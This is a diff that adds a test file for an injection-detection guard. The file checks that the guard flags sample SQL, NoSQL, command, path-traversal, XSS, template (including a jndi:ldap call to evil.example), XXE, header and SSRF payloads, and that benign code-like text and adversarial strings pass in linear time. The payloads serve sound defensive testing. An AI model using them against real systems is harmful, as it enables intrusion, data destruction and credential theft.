@@ -1,0 +1,186 @@
+import { expect, test } from "bun:test";
+import { growth } from "../../../test/kit/growth.ts";
+import type { Match, Surroundings } from "../detector.ts";
+import { type Source, segment } from "../segment.ts";
+import { injectionProtection } from "./injection-protection.ts";
+
+const find = (text: string, source: Source = "tool_arguments", settings: object = {}) =>
+  injectionProtection.prepare(injectionProtection.settings.parse(settings))(
+    [segment(text, source, { pointer: "/x" })],
+    {} as Surroundings,
+  ) as Match[];
+const labels = (text: string, source?: Source, settings?: object) =>
+  find(text, source, settings).map(({ label }) => label);
+
+const base64 = (text: string) => Buffer.from(text).toString("base64");
+
+test.each([
+  ["sql", "' OR 1=1 --"],
+  ["sql", "admin' or 'a'='a"],
+  ["sql", "1 UNION ALL SELECT NULL, NULL, version()"],
+  ["sql", "1/**/UnIoN/**/SeLeCt/**/1,2,3"],
+  ["sql", "x'; DROP TABLE users; --"],
+  ["sql", "admin'--"],
+  ["sql", "1 and (select * from (select(sleep(5)))a)"],
+  ["sql", "%27%20OR%201%3D1--"],
+  ["sql", "＇ ＯＲ １＝１ --"],
+  ["nosql", "user[$ne]=1"],
+  ["nosql", '{"$gt": ""}'],
+  ["nosql", "'; return true; var x='"],
+  ["command", "report.pdf; cat /etc/passwd"],
+  ["command", "8.8.8.8 && whoami"],
+  ["command", "x$(id)"],
+  ["command", "name`id`"],
+  ["path_traversal", "../../../../etc/passwd"],
+  ["path_traversal", "..%2f..%2fetc%2fpasswd"],
+  ["path_traversal", "%252e%252e%252fetc/passwd"],
+  ["path_traversal", "..\\..\\windows\\win.ini"],
+  ["xss", '"><script>alert(1)</script>'],
+  ["xss", "<img src=x onerror=alert(1)>"],
+  ["xss", "&lt;svg/onload=alert(1)&gt;"],
+  ["xss", base64("<script>alert(document.cookie)</script>")],
+  ["ldap", "*)(uid=*))(|(uid=*"],
+  ["xpath", "'] | //user/*[contains(*,'"],
+  ["template", "{{7*7}}"],
+  ["template", `$\{jndi:ldap://evil.example/a}`],
+  ["template", "{{''.__class__.__mro__[1].__subclasses__()}}"],
+  ["header", "en%0d%0aSet-Cookie: admin=1"],
+  ["file_inclusion", "php://filter/convert.base64-encode/resource=index.php"],
+  ["xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
+  ["ssrf", "http://169.254.169.254/latest/meta-data/"],
+  ["ssrf", "http://2852039166/"],
+])("in arguments: %s in %p", (label, text) => {
+  expect(labels(text)).toContain(label);
+});
+
+test.each([
+  ["sql", "log in as admin' or 'a'='a please"],
+  ["sql", "try ' UNION SELECT username, password FROM users-- as the name"],
+  ["command", "my file is x; rm -rf / and then print it"],
+  ["path_traversal", "open ../../../etc/passwd"],
+  ["xss", "my name is <script>alert(1)</script>"],
+  ["template", "hello {{7*7}}"],
+])("in prose: %s in %p", (label, text) => {
+  expect(labels(text, "user")).toContain(label);
+});
+
+test.each([
+  ["Write a query that selects users where age > 18 and status = 'active' order by name."],
+  ["SELECT id FROM a WHERE x = 'y' UNION ALL SELECT id FROM b; -- both"],
+  ["How does UNION SELECT work, and why is an injection dangerous in theory?"],
+  ["Run `ls -la | grep foo && cat notes.txt` in the shell."],
+  ["import { x } from '../../lib/x.ts'"],
+  ['<script src="app.js"></script> is how pages load code.'],
+  ["He said 'yes' and 'no' or \"maybe\"; select one."],
+  [`The template {{ user.name }} renders the name; $\{price} is a variable.`],
+  ["curl http://localhost:8080/health"],
+  ["AT&T and R&D; 1 = 1 is true"],
+])("prose that talks about code is left alone: %p", (text) => {
+  expect(labels(text, "user")).toEqual([]);
+});
+
+test.each([
+  ["find . -name '*.ts' | xargs grep foo && echo done"],
+  ["SELECT name FROM users WHERE id = 7; SELECT 2"],
+  ["git log --oneline | head -5; git status"],
+  ["src/policy/views.ts"],
+  ["../lib/clock.ts"],
+  ["O'Brien & Sons; 12 Main St"],
+  ["if (a > 0 && b < 2) { return c; }\nif (x) delete y;"],
+  ["https://example.com/search?q=a&page=2"],
+])("arguments that are what they should be are left alone: %p", (text) => {
+  expect(labels(text)).toEqual([]);
+});
+
+test("a match says where the text itself says it, and not what", () => {
+  const text = "q=%27%20OR%201%3D1--";
+  const [match] = find(text);
+
+  expect(text.slice(match?.at?.start, match?.at?.end)).toBe("%27%20OR%201%3D1");
+  expect(match).toMatchObject({ label: "sql", type: "injection" });
+  expect(match?.detail).toBeUndefined();
+});
+
+test("kinds that are not listed, or are switched off, are not looked for", () => {
+  const both = "' or 'a'='a <script>alert(1)</script>";
+  const only = (...predefined_injections: object[]) =>
+    labels(both, "tool_arguments", { predefined_injections });
+
+  expect(labels(both).toSorted()).toEqual(["sql", "xss"]);
+  expect(only({ type: "xss" })).toEqual(["xss"]);
+  expect(only({ type: "xss" }, { type: "sql", enabled: false })).toEqual(["xss"]);
+});
+
+test("a pattern of one's own is found in what is encoded, and ignores case", () => {
+  const custom_injections = [{ name: "ticket", pattern: "TCK-[0-9]{4}" }];
+
+  expect(labels(`x ${base64("see tck-1234 for it")}`, "user", { custom_injections })).toEqual([
+    "ticket",
+  ]);
+});
+
+test("a pattern that cannot be compiled is refused with its settings", () => {
+  const custom_injections = [{ name: "x", pattern: "(" }];
+
+  expect(injectionProtection.settings.safeParse({ custom_injections }).success).toBe(false);
+});
+
+test("the threshold decides: prose at 0.3 finds what 0.7 leaves", () => {
+  const text = "1; select pg_sleep(5)";
+
+  expect(labels(text, "user")).toEqual([]);
+  expect(labels(text, "user", { threshold: 0.3 })).toEqual(["sql"]);
+});
+
+/** Texts designed against the patterns: near misses, repeated. */
+export const ADVERSARIAL: readonly string[] = [
+  "' or ",
+  "' or '",
+  "1 or (((1",
+  "union ",
+  "union/**/",
+  "/**/",
+  "/*",
+  "' union select ",
+  "';",
+  "'; select ",
+  "' ) ) ) ",
+  "order by 1,",
+  "select (",
+  "(",
+  "../",
+  "..",
+  "./",
+  "%2e",
+  "`",
+  "$(",
+  ")(",
+  "<script ",
+  "<script>",
+  "<",
+  "onerror=",
+  " onload=\\x",
+  "javascript:",
+  "{{",
+  "{{7*",
+  "${jndi",
+  "${lower:",
+  "%0d%0a",
+  "<!entity a ",
+  "&a;",
+  "http://1",
+  "php://",
+  "$where:",
+  "rm -",
+  "curl x ",
+  "\n",
+  " ",
+  "a",
+  "0x2e",
+];
+
+test.each(ADVERSARIAL)("time grows with the length, not its square: %p", (piece) => {
+  const make = (length: number) => piece.repeat(length / piece.length);
+
+  expect(growth(find, make)).toBeLessThan(64);
+});
